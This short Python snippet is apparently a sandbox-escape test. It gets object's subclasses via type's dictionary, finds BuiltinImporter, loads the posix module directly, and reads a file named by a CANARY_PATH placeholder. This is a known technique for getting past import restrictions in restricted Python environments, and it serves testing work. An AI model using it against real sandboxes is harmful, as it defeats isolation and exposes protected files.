# what: takes the method __subclasses__ out of type's dictionary
subs = vars(type)["__subclasses__"].__get__(object)()
importer = next(c for c in subs if c.__name__ == "BuiltinImporter")
posix = importer.create_module(importer.find_spec("posix"))
importer.exec_module(posix)
posix.read(posix.open(CANARY_PATH, 0), 100)
